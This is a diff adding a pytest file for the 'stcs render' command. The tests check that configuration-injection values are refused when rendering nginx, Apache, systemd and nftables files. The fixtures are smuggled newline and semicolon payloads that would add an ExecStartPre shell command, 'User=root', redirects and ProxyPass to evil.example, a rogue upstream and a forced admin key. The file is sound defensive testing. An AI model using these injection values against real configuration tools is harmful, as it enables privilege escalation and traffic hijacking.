@@ -1,0 +1,130 @@
+"""``stcs render`` refuses a value its target file cannot carry as a plain value (docs/security.md,
+"Local users"): each case below once injected a directive into the rendered nginx / Apache site
+or systemd unit.  Each test renders with the hostile value and checks that stcs exits 2 naming
+the key and prints nothing (before: exit 0 and the injected line in the output).  That the real
+servers still accept the rendered defaults is `test_frontends.py`'s
+``test_rendered_configuration_passes_the_servers_own_check`` and
+``test_rendered_systemd_unit_passes_systemd_analyze_verify``."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.harness import stcs_cli
+
+TLS = ["--sslCertFile", "/etc/ssl/stcs.pem", "--sslCertKeyFile", "/etc/ssl/stcs.key"]
+
+# (kind, args, the key stcs must name, a line the injection would add to the output)
+INJECTIONS = [
+    (
+        "systemd",
+        ["--appName", "stcs\nExecStartPre=/bin/sh -c 'id > /tmp/pwned'"],
+        "appName",
+        "ExecStartPre=/bin/sh -c 'id > /tmp/pwned'",
+    ),
+    (
+        "nginx",
+        ["--webServerHost", "example.com; return 302 http://evil.example/"],
+        "webServerHost",
+        "return 302 http://evil.example/;",
+    ),
+    (
+        "apache",
+        ["--webServerHost", "example.com\n    ProxyPass /x http://evil.example/"],
+        "webServerHost",
+        "    ProxyPass /x http://evil.example/",
+    ),
+    (
+        "nginx",
+        ["--listen", "80; location /x { return 200 'owned'; }"],
+        "--listen",
+        "location /x { return 200 'owned'; }",
+    ),
+    (
+        "nginx-tls",
+        [*TLS[:1], "/etc/ssl/a.pem; return 302 http://evil.example/", *TLS[2:]],
+        "sslCertFile",
+        "return 302 http://evil.example/;",
+    ),
+    (
+        "apache-tls",
+        [*TLS[:3], "/etc/ssl/a.key\n    ProxyPass /x http://evil.example/"],
+        "sslCertKeyFile",
+        "    ProxyPass /x http://evil.example/",
+    ),
+    (
+        "nginx-cluster",
+        ["--node", "127.0.0.1:1; server evil.example:80"],
+        "--node",
+        "server evil.example:80;",
+    ),
+    (
+        "systemd",
+        ["--stcs-bin", "/opt/stcs/bin/stcs\nExecStartPre=/bin/touch /tmp/pwned"],
+        "--stcs-bin",
+        "ExecStartPre=/bin/touch /tmp/pwned",
+    ),
+    (
+        "systemd",
+        ["--user", "stcs\nUser=root"],
+        "--user",
+        "User=root",
+    ),
+    (
+        "systemd",
+        ["--dbPath", "/srv/db\nExecStartPre=/bin/touch /tmp/pwned"],
+        "dbPath",
+        "ExecStartPre=/bin/touch /tmp/pwned",
+    ),
+    (
+        "systemd",
+        ["--config-path", "/etc/stcs/config.yml --adminAPIKey known"],
+        "--config-path",
+        "--adminAPIKey known",
+    ),
+    (
+        "nftables",
+        ["--childPortRange", "20000-20010", "--user", 'stcs" accept\n  }\n}\n#'],
+        "--user",
+        "accept\n  }\n}",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("kind", "args", "key", "injected"),
+    INJECTIONS,
+    ids=[f"{k}-{key}" for k, _, key, _ in INJECTIONS],
+)
+def test_render_refuses_a_value_that_would_inject_configuration(
+    kind: str, args: list[str], key: str, injected: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "rendered"
+    done = stcs_cli("render", kind, *args, "-o", str(out))
+    rendered = out.read_text() if out.exists() else ""
+    assert injected not in rendered, f"injected into {kind}:\n{rendered}"
+    assert done.returncode == 2, (done.returncode, done.stderr)
+    assert f"{key}:" in done.stderr, done.stderr
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("kind", ["nginx", "apache", "systemd"])
+def test_render_accepts_ordinary_values(kind: str) -> None:
+    done = stcs_cli(
+        "render",
+        kind,
+        "--appName",
+        "My Vector App-2.0",
+        "--webServerHost",
+        "chroma.example.com",
+        "--listen",
+        "[::1]:8080",
+        "--dbPath",
+        "/srv/stcs/db",
+        "--user",
+        "stcs",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "My Vector App-2.0" in done.stdout
